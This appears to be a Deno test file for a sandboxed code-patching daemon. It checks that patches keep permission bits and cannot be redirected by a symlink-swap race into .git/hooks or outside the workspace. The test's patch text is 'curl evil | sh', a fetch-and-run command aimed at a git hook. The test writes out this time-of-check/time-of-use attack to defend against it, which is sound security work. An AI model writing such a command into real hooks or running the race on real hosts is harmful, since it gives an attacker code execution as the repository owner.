// Checked patches on a daemon that confines its cells: the temp file, its write and its rename
// are made by a process confined as a cell's `workspace.run` is, with the real `bwrap`, so a
// directory a cell swaps for a link after the host's path check cannot carry the write out.

import assert from "node:assert/strict";
import { join } from "node:path";
import { applyPatch, CodeService } from "../../../runtime/code/mod.ts";
import { isKlbrError } from "../../../runtime/core/mod.ts";
import { type SandboxBase, seccompBytes } from "../../../runtime/sandbox/mod.ts";

/** A workspace (real path) with `files`, a `.git/hooks` and a directory outside it. */
async function layout(files: Record<string, string>) {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "klbr-patch-confined-" }));
  const root = join(dir, "ws");
  const hooks = join(root, ".git", "hooks");
  const outside = join(dir, "outside");
  await Deno.mkdir(hooks, { recursive: true });
  await Deno.mkdir(outside);
  for (const [path, text] of Object.entries(files)) {
    await Deno.mkdir(join(root, path, ".."), { recursive: true });
    await Deno.writeTextFile(join(root, path), text);
  }
  const seccomp = join(dir, "seccomp.bpf");
  await Deno.writeFile(seccomp, seccompBytes());
  const sandbox: SandboxBase = {
    bwrap: "bwrap",
    network: false,
    readOnly: [],
    stateDir: join(dir, "state"),
    userns: true,
    seccomp,
    protect: [hooks],
    limits: null,
  };
  return {
    root,
    hooks,
    outside,
    sandbox,
    [Symbol.asyncDispose]: () => Deno.remove(dir, { recursive: true }),
  };
}

Deno.test("a confined patch keeps the file's permission bits and leaves no temp file", async () => {
  await using at = await layout({ "run.py": "def greet():\n    return 1\n" });
  await Deno.chmod(join(at.root, "run.py"), 0o7750);
  const service = new CodeService({ root: at.root, readOnly: [at.hooks], sandbox: at.sandbox });
  const s = await service.symbol("run.py", "greet", null);
  const done = await applyPatch(service, [{ range: s.range, text: "def greet():\n    return 2" }]);
  assert.ok(done.ok);
  assert.equal(await Deno.readTextFile(join(at.root, "run.py")), "def greet():\n    return 2\n");
  assert.equal((await Deno.stat(join(at.root, "run.py"))).mode! & 0o7777, 0o750);
  assert.deepEqual([...Deno.readDirSync(at.root)].map((e) => e.name).sort(), [".git", "run.py"]);
});

// The host writes as the owner (root in CI) while a confined cell may rename workspace
// directories at any moment. A cell that swaps `src` for a link to `.git/hooks` (or to a
// directory outside the workspace) after the path check, and back for the host's re-read,
// must not get its text written there: the next `git commit` would run it as the owner.
Deno.test("a confined daemon's patch never writes through a directory swapped for a symlink after its path check", async () => {
  await using at = await layout({ "src/pre-commit": "echo workspace\n" });
  // Inside the writer's sandbox the hooks are read-only and the outside directory is not there.
  const refusals = [
    {
      target: at.hooks,
      said: /cannot create \.pre-commit\.klbr-[-0-9a-f]+\.tmp: Read-only file system$/,
    },
    { target: at.outside, said: /bwrap: Can't chdir to \S+\/ws\/src: No such file or directory$/ },
  ];
  for (const { target, said } of refusals) {
    // The owner's own hook (or a file outside) of the same name, executable.
    await Deno.writeTextFile(join(target, "pre-commit"), "echo owner\n", { mode: 0o755 });
    const src = join(at.root, "src");
    const toLink = async () => {
      await Deno.rename(src, `${src}.real`);
      await Deno.symlink(target, src);
    };
    const toDir = async () => {
      await Deno.remove(src);
      await Deno.rename(`${src}.real`, src);
    };
    // The cell's moves, made at the host's own steps so the race is won every time:
    // linked after the check, a directory again for the re-read, linked for the write.
    let armed = false;
    class Swapping extends CodeService {
      override async source(path: string, action: string) {
        if (armed && action.startsWith("patch") && (await Deno.lstat(src)).isSymlink) {
          await toDir();
          const again = await super.source(path, action);
          await toLink();
          return again;
        }
        return await super.source(path, action);
      }
      override async parsed(source: Parameters<CodeService["parsed"]>[0]) {
        if (armed && !(await Deno.lstat(src)).isSymlink) await toLink();
        return await super.parsed(source);
      }
    }
    const service = new Swapping({ root: at.root, readOnly: [at.hooks], sandbox: at.sandbox });
    const line = await service.lines("src/pre-commit", 1, null);
    armed = true;
    const outcome = await applyPatch(service, [{ range: line.range, text: "curl evil | sh\n" }])
      .catch((e: unknown) => e);
    armed = false;
    if ((await Deno.lstat(src)).isSymlink) await toDir();
    assert.equal(await Deno.readTextFile(join(target, "pre-commit")), "echo owner\n");
    assert.deepEqual([...Deno.readDirSync(target)].map((e) => e.name), ["pre-commit"]);
    assert.equal(await Deno.readTextFile(join(src, "pre-commit")), "echo workspace\n");
    assert.ok(
      isKlbrError(outcome, "internal") &&
        outcome.message ===
          "cannot patch src/pre-commit: writing failed; the files are unchanged",
      String(outcome),
    );
    assert.match(String((outcome as Error).cause), said);
    await Deno.remove(join(target, "pre-commit"));
  }
});
